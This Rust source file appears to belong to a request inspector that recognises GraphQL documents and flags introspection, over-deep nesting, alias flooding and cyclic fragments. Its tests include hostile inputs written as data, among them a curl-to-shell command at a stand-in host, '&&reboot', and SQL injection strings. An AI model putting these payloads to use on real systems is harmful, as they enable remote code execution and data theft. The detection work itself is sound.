//! The texts of a GraphQL document, without building it.
//!
//! A document is told from other text by GraphQL's grammar; then its strings are values, and braces, quotes and dollar signs
//! between them are syntax and no attack.

use super::json::number;
use crate::bytes::{at, between, either, find, from, is_word, skip_space, starts, word_end};
use crate::finding::{Family, Finding};
use crate::inspector::Flow;

/// Takes an argument's name and its text.
pub(crate) type Each<'e> = dyn FnMut(&[u8], &[u8]) -> Flow + 'e;

/// Whether the text is a document that a server would execute (GraphQL, October 2021, 2.1 to 2.9), as far as tokens and their
/// places tell: operations and fragments one behind the other, of selections, whose arguments alone hold values. What is
/// taken for one is inspected for less, so that in doubt a text is none. Definitions of types are none.
pub(crate) fn is_document(text: &[u8]) -> bool {
    // What selects nothing is none: almost every text.
    if either(text, b'}', b'}').is_none() {
        return false;
    }
    let mut reader = Reader::default();
    let mut index = 0;
    while index < text.len() {
        match reader.token(text, index) {
            Some(next) => index = next,
            None => return false,
        }
    }
    reader.whole && reader.depth == 0 && reader.inside == 0 && reader.words == 0
}

/// Where in a document a token stands.
#[derive(Default)]
struct Reader {
    /// Selections within selections.
    depth: u32,
    /// Brackets of any kind within arguments and definitions of variables.
    inside: u32,
    /// Words of a definition before its selection, and how many it may have.
    words: u32,
    most: u32,
    /// The token before is a name, or opens a selection.
    named: bool,
    opened: bool,
    /// A definition is complete.
    whole: bool,
}

impl Reader {
    /// Where the token that stands there ends; `None` for what stands in no document there.
    fn token(&mut self, text: &[u8], index: usize) -> Option<usize> {
        let byte = at(text, index);
        let (named, opened) = (std::mem::take(&mut self.named), std::mem::take(&mut self.opened));
        let begins_name = is_name(at(text, index + 1));
        let valued = self.inside > 0;
        match byte {
            b' ' | b'\t' | b'\r' | b'\n' | b',' => {
                (self.named, self.opened) = (named, opened);
            }
            b'#' => return Some(index + line(text, index)),
            b'"' if valued => {
                let (_, next, closed) = string(text, index);
                return closed.then_some(next);
            }
            b'{' | b'[' if valued => self.inside += 1,
            b'}' | b']' | b')' if valued => self.inside -= 1,
            b'{' => (self.depth, self.opened) = (self.depth + 1, true),
            b'}' if self.depth > 0 && !opened => {
                self.depth -= 1;
                if self.depth == 0 {
                    (self.words, self.whole) = (0, true);
                }
            }
            // The first argument has a name, or a variable its type.
            b'(' if named => {
                let start = skip_space(text, index + 1);
                let end = word_end(text, start + usize::from(at(text, start) == b'$'));
                if end == start || at(text, skip_space(text, end)) != b':' {
                    return None;
                }
                self.inside += 1;
            }
            b'.' if self.depth > 0 && !valued && starts(from(text, index), b"...") => {
                return Some(index + 3);
            }
            b':' if named && at(text, index + 1) != b':' => {}
            b'!' | b'=' if valued => {}
            b'$' if valued && begins_name => {
                self.named = true;
                return Some(word_end(text, index + 1));
            }
            b'@' if begins_name => {
                self.named = true;
                return Some(word_end(text, index + 1));
            }
            b'-' | b'0'..=b'9' if valued => return number(text, index),
            byte if is_name(byte) => {
                let end = word_end(text, index);
                let name = between(text, index, end);
                if !name.is_ascii() || self.depth == 0 && !valued && !self.heads(name) {
                    return None;
                }
                self.named = true;
                return Some(end);
            }
            _ => return None,
        }
        Some(index + 1)
    }

    /// A word outside selections: what is defined, its name, and what a fragment is on.
    fn heads(&mut self, word: &[u8]) -> bool {
        if self.words == 0 {
            self.most = match word {
                b"query" | b"mutation" | b"subscription" => 2,
                b"fragment" => 4,
                _ => 0,
            };
        }
        self.words += 1;
        self.words <= self.most
    }
}

const fn is_name(byte: u8) -> bool {
    byte.is_ascii_alphabetic() || byte == b'_'
}

/// The bytes up to the line's end.
fn line(text: &[u8], index: usize) -> usize {
    let rest = from(text, index);
    rest.iter().position(|b| *b == b'\n').unwrap_or(rest.len())
}

/// Selections within selections, beyond which a document is made to cost: what applications ask for is a third as deep.
const DEPTH: u32 = 15;
/// Fields that are asked for again under another name. More: one document tries many things.
const ALIASES: u32 = 50;

/// What makes a document more than a question: it asks for the schema, or for so much that answering is the attack.
/// `__typename` belongs to every client. Linear in the document's length.
pub(crate) fn excess(text: &[u8]) -> Option<Finding> {
    let (mut depth, mut inside, mut aliases, mut index) = (0_u32, 0_u32, 0, 0);
    while index < text.len() {
        match at(text, index) {
            b'"' => {
                index = string(text, index).1;
                continue;
            }
            b'#' => index += line(text, index),
            b'(' | b'[' => inside += 1,
            b')' | b']' => inside = inside.saturating_sub(1),
            b'{' if inside == 0 => {
                depth += 1;
                if depth > DEPTH {
                    return Some(Finding::new(Family::Protocol, 76, "graphql-depth", index));
                }
            }
            b'}' if inside == 0 => depth = depth.saturating_sub(1),
            byte if is_word(byte) => {
                let end = word_end(text, index);
                let next = at(text, skip_space(text, end));
                let field = depth > 0 && inside == 0;
                let name = between(text, index, end);
                if field && (name == b"__schema" && next == b'{' || name == b"__type" && next == b'(') {
                    return Some(Finding::new(Family::Scanner, 74, "graphql-introspection", index));
                }
                aliases += u32::from(field && next == b':');
                if aliases > ALIASES {
                    return Some(Finding::new(Family::Protocol, 76, "graphql-aliases", index));
                }
                index = end;
                continue;
            }
            _ => {}
        }
        index += 1;
    }
    None
}

/// Fragments of one document whose spreads are followed. More: not looked at.
const FRAGMENTS: usize = 32;

/// Where a document has fragments that spread themselves, on whatever way: a server that does not validate follows them
/// for ever (GraphQL, 5.5.2.2). Linear in the document's length.
pub(crate) fn cycle(text: &[u8]) -> Option<Finding> {
    find(text, b"fragment", 0)?;
    let mut names: Vec<&[u8]> = Vec::new();
    // For each fragment, a bit for each that it spreads.
    let mut spreads = [0_u32; FRAGMENTS];
    let mut number = |name| match names.iter().position(|known| *known == name) {
        None if names.len() < FRAGMENTS => {
            names.push(name);
            Some(names.len() - 1)
        }
        known => known,
    };
    let (mut depth, mut inside, mut index) = (0_u32, None, 0);
    while index < text.len() {
        match at(text, index) {
            b'"' => {
                index = string(text, index).1;
                continue;
            }
            b'#' => index += line(text, index),
            b'{' => depth += 1,
            b'}' => depth = depth.saturating_sub(1),
            b'.' if starts(from(text, index), b"...") => {
                let name = word(text, index + 3);
                let spread = (name != b"on" && !name.is_empty()).then(|| number(name)).flatten();
                if let (Some(from), Some(to)) = (inside, spread)
                    && let Some(spreads) = spreads.get_mut(from)
                {
                    *spreads |= 1 << to;
                }
                index += 2;
            }
            byte if is_word(byte) => {
                let end = word_end(text, index);
                if depth == 0 {
                    let begins = between(text, index, end) == b"fragment";
                    inside = if begins { number(word(text, end)) } else { inside };
                }
                index = end;
                continue;
            }
            _ => {}
        }
        index += 1;
    }
    for through in 0..FRAGMENTS {
        let reached = spreads.get(through).copied().unwrap_or(0);
        for fragment in &mut spreads {
            *fragment |= if *fragment >> through & 1 == 1 { reached } else { 0 };
        }
    }
    let cyclic = spreads.iter().enumerate().any(|(own, reached)| reached >> own & 1 == 1);
    cyclic.then(|| Finding::new(Family::Protocol, 76, "graphql-cycle", 0))
}

/// The word that stands there, behind white space.
fn word(text: &[u8], index: usize) -> &[u8] {
    let start = skip_space(text, index);
    between(text, start, word_end(text, start))
}

/// Calls `each` with every string, under the name of the argument or field that it belongs to.
pub(crate) fn walk(text: &[u8], each: &mut Each<'_>) -> Flow {
    let mut name: &[u8] = b"";
    let mut index = 0;
    while index < text.len() {
        let byte = at(text, index);
        if byte == b'"' {
            let (inside, next, _) = string(text, index);
            each(name, inside)?;
            index = next;
        } else if byte == b'#' {
            let length = line(text, index);
            each(b"", between(text, index, index + length))?;
            index += length;
        } else if is_word(byte) {
            let end = word_end(text, index);
            if at(text, skip_space(text, end)) == b':' {
                name = between(text, index, end);
            }
            index = end;
        } else {
            index += 1;
        }
    }
    Flow::Continue(())
}

/// The inside of a string, where it ends, and whether it is closed.
fn string(text: &[u8], start: usize) -> (&[u8], usize, bool) {
    if starts(from(text, start), b"\"\"\"") {
        return match find(text, b"\"\"\"", start + 3) {
            Some(end) => (between(text, start + 3, end), end + 3, true),
            None => (from(text, start + 3), text.len(), false),
        };
    }
    let mut index = start + 1;
    while index < text.len() {
        match at(text, index) {
            b'"' => return (between(text, start + 1, index), index + 1, true),
            b'\\' => index += 2,
            _ => index += 1,
        }
    }
    (from(text, start + 1), text.len(), false)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn strings_are_values_and_syntax_is_none() {
        let document =
            b"query($id: ID!) { user(id: $id, name: \"O'Brien\") { ...F note(text: \"\"\"x\"\"\") } }";
        assert!(is_document(document));
        let mut seen = Vec::new();
        let _ = walk(document, &mut |name, text| {
            seen.push(format!("{}={}", String::from_utf8_lossy(name), String::from_utf8_lossy(text)));
            Flow::Continue(())
        });
        assert_eq!(seen, ["name=O'Brien", "text=x"]);
    }

    #[test]
    fn questions_that_ask_for_too_much() {
        let why = |text: &str| excess(text.as_bytes()).map(|finding| finding.why);
        let nested =
            |depth: usize| format!("{}id{}", "{ friends ".repeat(depth) + "{ ", " }".repeat(depth + 1));
        let aliased =
            |count: usize| (0..count).map(|n| format!("a{n}: user(id: {n}) {{ name }} ")).collect::<String>();
        assert_eq!(why("query I { __schema { types { name } } }"), Some("graphql-introspection"));
        assert_eq!(why("{ __type(name: \"User\") { name } }"), Some("graphql-introspection"));
        assert_eq!(why(&nested(15)), Some("graphql-depth"));
        assert_eq!(why(&format!("{{ {} }}", aliased(51))), Some("graphql-aliases"));
        assert_eq!(why(&nested(14)), None);
        assert_eq!(why(&format!("{{ {} }}", aliased(50))), None);
        assert_eq!(why("query Q($schema: In = {a: {b: {c: 1}}}) { a { __typename type schema } }"), None);
        assert_eq!(why("{ note(text: \"{ __schema { x } }\") { id } } # __schema { }"), None);
    }

    #[test]
    fn fragments_that_spread_themselves() {
        let cyclic = |text: &str| cycle(text.as_bytes()).is_some();
        assert!(cyclic("{ user { ...A } } fragment A on User { friends { ...A } }"));
        assert!(cyclic(
            "{ ...A } fragment A on T { ...B } fragment B on T { x { ...C } } fragment C on T { ...A }"
        ));
        assert!(!cyclic(
            "{ ...A ...B } fragment A on T { ...B ...C } fragment B on T { ...C } fragment C on T { ... on U { id } }"
        ));
        assert!(!cyclic("query fragment { a(b: \"...fragment\") { ...A } } # fragment A { ...A }"));
        let many: String = (0..40).map(|n| format!("fragment F{n} on T {{ ...F{} }} ", n + 1)).collect();
        assert!(!cyclic(&many));
    }

    #[test]
    fn other_text_is_no_document() {
        for other in [
            "{a",
            "query the database",
            "{{7*7}}",
            "{a} ; id",
            "queries {a}",
            "{A::b(c)}",
            "{ a(b: \"c) }",
            "function() {a}",
            "{}",
            "{ a } }",
            // Braces in front of a payload make it no question.
            "{x}$(curl evil.test|sh){y}",
            "{x}|id",
            "{x}&&reboot",
            "{a}\" or \"1\"=\"1",
            "{x} union select password from users {y}",
            "query union select password from users {x}",
            "{x(sleep(5))}",
            "{x(a: $(id))}",
            "{x.y}",
            "{x: 1}",
            "{a} query",
            "type A { b: C }",
        ] {
            assert!(!is_document(other.as_bytes()), "{other}");
        }
        for document in [
            "{ a b { c } }",
            "mutation { x(y: [1, -2.5e+3]) { z } } # end\n",
            "query Q($id: ID! = 7, $in: [In!]! = [{a: \"b\"}]) @live { user(id: $id, in: $in) @include(if: $x) { n: name } }",
            "query A { a } query B { b { ...F ... on T @skip(if: true) { c } ... { d } } } fragment F on U { id }",
            "subscription S{a(b:ENUM,c:null,d:\"\"\"x\"\"\"){e}}",
        ] {
            assert!(is_document(document.as_bytes()), "{document}");
        }
    }
}
